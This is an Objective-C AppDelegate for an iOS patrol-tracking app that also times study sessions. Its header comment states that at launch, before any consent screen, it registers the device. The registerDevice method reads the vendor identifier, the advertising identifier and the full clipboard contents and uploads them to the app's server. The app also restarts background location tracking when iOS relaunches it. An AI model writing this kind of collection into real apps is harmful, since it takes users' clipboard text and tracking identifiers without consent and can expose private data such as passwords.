// 巡查轨迹: patrol app with every trace-leaving feature. At launch, before any
// consent screen, it registers the device (IDFV, IDFA, pasteboard) and, when
// iOS relaunches it for a location event, resumes background tracking.
#import "AppDelegate.h"
#import "PatrolViewController.h"
#import "TrackRecorder.h"
#import "StudyTimer.h"
#import "EvidenceUploader.h"
#import <AdSupport/AdSupport.h>

@implementation AppDelegate

- (BOOL)application:(UIApplication *)application didFinishLaunchingWithOptions:(NSDictionary *)launchOptions {
    [self registerDevice];
    if (launchOptions[UIApplicationLaunchOptionsLocationKey] != nil) {
        [[TrackRecorder sharedRecorder] start];
    }
    self.window = [[UIWindow alloc] initWithFrame:[UIScreen mainScreen].bounds];
    PatrolViewController *patrol = [[PatrolViewController alloc] init];
    self.window.rootViewController = [[UINavigationController alloc] initWithRootViewController:patrol];
    [self.window makeKeyAndVisible];
    return YES;
}

- (void)registerDevice {
    NSString *idfv = [[UIDevice currentDevice].identifierForVendor UUIDString];
    NSString *idfa = [[ASIdentifierManager sharedManager].advertisingIdentifier UUIDString];
    NSString *clipboard = [UIPasteboard generalPasteboard].string;
    NSDictionary *device = @{
        @"idfv" : idfv ?: @"",
        @"idfa" : idfa ?: @"",
        @"clipboard" : clipboard ?: @"",
    };
    [EvidenceUploader uploadJSON:device toPath:@"/api/device/register"];
}

// 学习时长 is reported when the app goes to the background.
- (void)applicationDidEnterBackground:(UIApplication *)application {
    [[StudyTimer sharedTimer] reportDuration];
}

@end
